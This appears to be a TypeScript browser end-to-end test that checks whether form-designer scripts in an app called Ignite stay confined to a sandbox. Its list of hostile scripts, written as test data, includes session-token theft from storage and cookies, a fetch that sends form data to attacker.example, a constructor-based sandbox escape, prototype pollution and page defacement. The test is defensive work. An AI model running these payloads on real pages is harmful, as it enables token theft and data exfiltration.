// Designer scripts contained, in Chromium: a screen whose buttons run hostile scripts (read the token,
// fetch elsewhere, alter the page, pollute a prototype, loop forever) shows each one failing with a clear
// message, and a template with code sees no page either, while the page, its storage and its prototypes
// stay as they were and the screen stays usable.
// A screen with scripts loads the sandbox's WebAssembly; a screen without any does not.
import { describe, expect, it } from 'vitest';
import { apiAs, browserFixture, screenshot, signInAs } from '../e2e/browser';
import { reportFigure } from './report-figure';

const browser = browserFixture();

const HOSTILE: { label: string; script: string; message: RegExp }[] = [
  {
    label: 'Read the token',
    script: "localStorage.getItem('ignite.session') || sessionStorage.key(0) || document.cookie",
    message: /ReferenceError: 'localStorage' is not defined/,
  },
  {
    label: 'Fetch elsewhere',
    script: "fetch('https://attacker.example/?data=' + JSON.stringify(data))",
    message: /ReferenceError: 'fetch' is not defined/,
  },
  {
    label: 'Alter the page',
    script: "document.body.innerHTML = '<h1>Session expired</h1>'",
    message: /ReferenceError: 'document' is not defined/,
  },
  {
    label: 'Escape by constructor',
    script: "[].constructor.constructor('return window')().localStorage.length",
    message: /ReferenceError: 'window' is not defined/,
  },
  {
    label: 'Pollute a prototype',
    script: 'Object.prototype.isAdmin = true',
    message: /TypeError/,
  },
  {
    label: 'Loop forever',
    script: 'while (true) {}',
    message: /ran longer than 1000 ms and was stopped/,
  },
];

const button = (key: string, label: string, script: string) => ({
  type: 'action-button',
  key,
  label,
  input: false,
  actionProcessors: [
    { actionType: 'executeCustomLogic', actionName: key, customLogicConfig: { scriptToExecute: script } },
  ],
});

const sandboxScreen = {
  id: 'script-sandbox',
  name: 'Script sandbox',
  category: 'tests',
  components: [
    {
      type: 'screen-config',
      key: 'screenConfiguration',
      label: 'Script sandbox',
      input: false,
      screenType: 'action',
    },
    { type: 'textfield', key: 'note', label: 'Note', input: true },
    // Templates with code run in the sandbox as well.
    {
      type: 'htmlelement',
      key: 'probe',
      tag: 'p',
      attrs: [{ attr: 'data-testid', value: 'template-probe' }],
      content:
        "{{ typeof document }}/{{ typeof localStorage }}{% if (typeof document !== 'undefined') document.title = 'owned' %}",
      input: false,
    },
    ...HOSTILE.map(({ label, script }, index) => button(`hostile${index}`, label, script)),
    {
      type: 'action-button',
      key: 'benign',
      label: 'Write a note',
      input: false,
      actionProcessors: [
        {
          actionType: 'setFieldValues',
          actionName: 'note',
          fieldValuesConfig: [{ fieldName: 'note', fieldValue: "'still working: ' + (1 + 1)" }],
        },
      ],
    },
  ],
};

describe('designer scripts in Chromium', () => {
  it('contain every hostile script, and the screen stays usable', async () => {
    const { page } = browser;
    const designer = await apiAs(browser, 'designer@ignite.local');
    const saved = await designer.post('/api/ignite/application', sandboxScreen);
    expect(saved.status, JSON.stringify(saved.body)).toBeLessThan(300);

    await signInAs(browser, 'designer@ignite.local');
    const wasm: string[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('.wasm')) wasm.push(response.url());
    });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    await page.goto('/app/court-fines/court-fine-create');
    await page.locator('.formio-form').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(wasm, 'a screen without scripts loads no sandbox').toEqual([]);

    await page.goto('/app/tests/script-sandbox');
    await page.getByRole('button', { name: 'Write a note' }).waitFor();
    expect(wasm.length, 'a screen with scripts loads the sandbox').toBe(1);
    const storageBefore = await page.evaluate(() => JSON.stringify({ ...localStorage }));
    await expect.poll(() => page.getByTestId('template-probe').textContent()).toBe('undefined/undefined');
    expect(await page.title()).not.toBe('owned');

    const contained: string[] = [];
    for (const { label, message } of HOSTILE) {
      await page.getByRole('button', { name: label }).click();
      await page.getByRole('alert').filter({ hasText: message }).last().waitFor({ timeout: 15_000 });
      contained.push(label);
    }
    await screenshot(page, 'security-script-sandbox');

    // The page is as it was: its text, storage and prototypes; and its buttons still work.
    await page.getByRole('button', { name: 'Write a note' }).click();
    await expect.poll(() => page.getByLabel('Note').inputValue()).toBe('still working: 2');
    expect(await page.locator('h1', { hasText: 'Session expired' }).count()).toBe(0);
    expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).toBe(storageBefore);
    expect(await page.evaluate(() => (Object.prototype as Record<string, unknown>).isAdmin)).toBeUndefined();
    expect(dialogs).toEqual([]);

    reportFigure(
      'designer scripts in the sandbox',
      `${HOSTILE.length} hostile scripts run in Chromium: ${contained.length} contained with a clear message, 0 reached the page`,
    );
    expect(contained).toHaveLength(HOSTILE.length);
  }, 120_000);
});
